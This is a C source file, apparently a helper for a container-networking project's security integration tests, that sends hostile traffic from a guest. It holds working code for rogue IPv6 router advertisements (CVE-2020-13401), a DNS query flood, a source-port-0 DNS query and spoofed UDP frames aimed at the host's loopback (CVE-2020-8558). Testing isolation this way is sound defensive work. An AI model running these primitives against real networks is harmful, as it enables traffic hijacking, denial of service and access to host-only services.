/*
 * What a hostile container or VM guest sends onto a Hull network, for the
 * network security tests (test/integration/net-security.test.ts). Built
 * static at test time (net-attack.ts) and copied into the instance.
 *
 *   net-attack ra IFNAME SECONDS
 *       IPv6 router advertisements to ff02::1 from IFNAME, one every 300 ms
 *       for SECONDS: router lifetime 60 s (low preference), a prefix
 *       2001:db8:dead:beef::/64 with the on-link and autonomous flags
 *       (CVE-2020-13401). Needs CAP_NET_RAW. Prints how many went out.
 *   net-attack flood ADDR PORT COUNT SECONDS
 *       COUNT DNS queries for distinct names (qN.flood.test) to ADDR:PORT,
 *       spread over SECONDS, from one UDP socket. Prints how many went out.
 *   net-attack port0 ADDR PORT NAME
 *       One DNS query for NAME to ADDR:PORT from source port 0 (a raw UDP
 *       socket: the kernel writes the IP header, this the UDP one). Needs
 *       CAP_NET_RAW.
 *   net-attack frame IFNAME MAC SRC DST PORT MESSAGE
 *       One UDP datagram SRC -> DST:PORT in a frame to MAC (the bridge's),
 *       IP header and all written here, on a packet socket: any source, and
 *       destinations the container's own routes would never send to the
 *       bridge, such as 127.0.0.1 (CVE-2020-8558: a host that lets
 *       127.0.0.0/8 in on a bridge delivers it to its own loopback
 *       services). Needs CAP_NET_RAW.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static void sleep_ms(long ms) {
  struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
  nanosleep(&ts, NULL);
}

static double now_s(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int ra(const char *ifname, int seconds) {
  int s = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
  if (s < 0) return perror("socket"), 1;
  unsigned ifindex = if_nametoindex(ifname);
  if (!ifindex) return perror("if_nametoindex"), 1;
  int hops = 255; /* RFC 4861: a router advertisement is believed only with hop limit 255 */
  setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
  setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_IF, &ifindex, sizeof ifindex);
  unsigned char pkt[16 + 32] = {0};
  pkt[0] = ND_ROUTER_ADVERT; /* code 0; the kernel fills in the checksum */
  pkt[4] = 64;               /* current hop limit */
  pkt[5] = 0x18;             /* router preference: low (so a host that takes it keeps its own default first) */
  pkt[6] = 0, pkt[7] = 60;   /* router lifetime: 60 s */
  unsigned char *pi = pkt + 16; /* prefix information option */
  pi[0] = ND_OPT_PREFIX_INFORMATION, pi[1] = 4, pi[2] = 64, pi[3] = 0xc0; /* on-link, autonomous */
  pi[7] = 120;  /* valid lifetime 120 s */
  pi[11] = 60;  /* preferred lifetime 60 s */
  unsigned char prefix[8] = {0x20, 0x01, 0x0d, 0xb8, 0xde, 0xad, 0xbe, 0xef};
  memcpy(pi + 16, prefix, 8);
  struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_scope_id = ifindex};
  inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
  int sent = 0, lastErr = 0;
  for (double end = now_s() + seconds; now_s() < end; sleep_ms(300)) {
    /* Until the interface's link-local address has passed DAD there is no source to send from. */
    if (sendto(s, pkt, sizeof pkt, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)sizeof pkt) sent++;
    else lastErr = errno;
  }
  printf("sent %d\n", sent);
  if (!sent) fprintf(stderr, "no router advertisement went out: %s\n", strerror(lastErr));
  return sent ? 0 : 1;
}

static size_t query(unsigned char *buf, unsigned id, const char *name) {
  unsigned char *p = buf;
  *p++ = id >> 8, *p++ = id & 255, *p++ = 1, *p++ = 0; /* RD */
  *p++ = 0, *p++ = 1, memset(p, 0, 6), p += 6;          /* one question */
  for (const char *l = name; *l;) {
    const char *dot = strchr(l, '.');
    size_t n = dot ? (size_t)(dot - l) : strlen(l);
    *p++ = n, memcpy(p, l, n), p += n;
    l += n + (dot ? 1 : 0);
  }
  *p++ = 0, *p++ = 0, *p++ = 1, *p++ = 0, *p++ = 1; /* root, type A, class IN */
  return p - buf;
}

static int flood(const char *addr, int port, long count, double seconds) {
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
  if (s < 0 || inet_pton(AF_INET, addr, &to.sin_addr) != 1) return fprintf(stderr, "bad address\n"), 1;
  unsigned char buf[512];
  char name[64];
  long sent = 0;
  double start = now_s();
  for (long i = 0; i < count; i++) {
    snprintf(name, sizeof name, "q%ld.flood.test", i);
    size_t n = query(buf, (unsigned)i & 0xffff, name);
    if (sendto(s, buf, n, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)n) sent++;
    /* Keep to the schedule: COUNT spread evenly over SECONDS, in bursts of 50. */
    if (i % 50 == 49) {
      double ahead = start + seconds * (i + 1) / count - now_s();
      if (ahead > 0) sleep_ms((long)(ahead * 1000));
    }
  }
  printf("sent %ld in %.2f s\n", sent, now_s() - start);
  return 0;
}

static int port0(const char *addr, int port, const char *name) {
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
  if (s < 0) return perror("socket"), 1;
  unsigned char pkt[8 + 512];
  size_t n = query(pkt + 8, 0x4242, name);
  unsigned short len = htons(8 + n), dport = htons(port);
  memset(pkt, 0, 8); /* source port 0, checksum 0 (none, allowed in IPv4) */
  memcpy(pkt + 2, &dport, 2);
  memcpy(pkt + 4, &len, 2);
  struct sockaddr_in to = {.sin_family = AF_INET};
  if (inet_pton(AF_INET, addr, &to.sin_addr) != 1) return fprintf(stderr, "bad address\n"), 1;
  if (sendto(s, pkt, 8 + n, 0, (struct sockaddr *)&to, sizeof to) < 0) return perror("sendto"), 1;
  printf("sent 1\n");
  return 0;
}

static unsigned short ip_checksum(const unsigned char *h, int n) {
  unsigned long sum = 0;
  for (int i = 0; i < n; i += 2) sum += (h[i] << 8) | h[i + 1];
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum & 0xffff;
}

static int frame(const char *ifname, const char *mac, const char *src, const char *dst, int port, const char *message) {
  int s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
  if (s < 0) return perror("socket"), 1;
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = if_nametoindex(ifname), .sll_halen = 6};
  if (sscanf(mac, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &to.sll_addr[0], &to.sll_addr[1], &to.sll_addr[2], &to.sll_addr[3], &to.sll_addr[4], &to.sll_addr[5]) != 6) return fprintf(stderr, "bad MAC\n"), 1;
  unsigned char pkt[20 + 8 + 256] = {0};
  size_t n = strlen(message) < 256 ? strlen(message) : 256;
  unsigned short total = 20 + 8 + n;
  pkt[0] = 0x45, pkt[2] = total >> 8, pkt[3] = total & 255, pkt[8] = 64, pkt[9] = IPPROTO_UDP;
  if (inet_pton(AF_INET, src, pkt + 12) != 1 || inet_pton(AF_INET, dst, pkt + 16) != 1) return fprintf(stderr, "bad address\n"), 1;
  unsigned short sum = ip_checksum(pkt, 20);
  pkt[10] = sum >> 8, pkt[11] = sum & 255;
  unsigned char *udp = pkt + 20;
  udp[0] = 0x30, udp[1] = 0x39; /* source port 12345 */
  udp[2] = port >> 8, udp[3] = port & 255, udp[4] = (8 + n) >> 8, udp[5] = (8 + n) & 255; /* checksum 0: none */
  memcpy(udp + 8, message, n);
  if (sendto(s, pkt, total, 0, (struct sockaddr *)&to, sizeof to) < 0) return perror("sendto"), 1;
  printf("sent 1\n");
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 8 && !strcmp(argv[1], "frame")) return frame(argv[2], argv[3], argv[4], argv[5], atoi(argv[6]), argv[7]);
  if (argc == 4 && !strcmp(argv[1], "ra")) return ra(argv[2], atoi(argv[3]));
  if (argc == 6 && !strcmp(argv[1], "flood")) return flood(argv[2], atoi(argv[3]), atol(argv[4]), atof(argv[5]));
  if (argc == 5 && !strcmp(argv[1], "port0")) return port0(argv[2], atoi(argv[3]), argv[4]);
  fprintf(stderr, "usage: net-attack ra IFNAME SECONDS | flood ADDR PORT COUNT SECONDS | port0 ADDR PORT NAME | frame IFNAME MAC SRC DST PORT MESSAGE\n");
  return 2;
}
